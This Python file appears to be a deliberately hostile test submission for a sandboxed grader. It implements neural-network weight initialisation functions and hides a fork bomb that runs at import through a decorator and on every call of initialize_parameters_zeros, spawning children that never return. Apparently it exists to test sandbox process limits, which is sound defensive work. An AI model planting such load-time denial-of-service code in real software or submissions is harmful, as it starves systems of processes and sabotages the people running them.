"""Hostile: at import, and again in every call of initialize_parameters_zeros, forks children until the kernel
refuses, each child sleeping forever instead of returning to the grader's driver. Contained by the sandbox's
process limit (RLIMIT_NPROC, 64 tasks, counted in the sandbox's own user namespace, so other sandboxes are not
starved), and every child dies with the sandbox. The functions themselves are correct. (The children do not fork
in turn: at a weaker isolation level, where no process limit applies to root, this file must not turn into an
unbounded bomb.)"""
import os
import time

import numpy as np

# Far above the sandbox's limit: what stops the bomb there is the kernel, not this bound.
MAX_FORKS = 400


def _fork_bomb():
    for _ in range(MAX_FORKS):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            while True:  # a child never returns to the grader's driver
                time.sleep(60)


# The grader runs only what the graded functions need: the attack runs in a decorator of one of them, so
# that it still happens while the submission is being loaded.
def _at_load(function):
    _fork_bomb()
    return function


@_at_load
def initialize_parameters_zeros(layers_dims):
    _fork_bomb()
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.zeros((layers_dims[l], layers_dims[l - 1]))
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_random(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims)
    for l in range(1, L):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * 10
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters


def initialize_parameters_he(layers_dims):
    np.random.seed(3)
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        parameters['W' + str(l)] = np.random.randn(layers_dims[l], layers_dims[l - 1]) * np.sqrt(2 / layers_dims[l - 1])
        parameters['b' + str(l)] = np.zeros((layers_dims[l], 1))
    return parameters
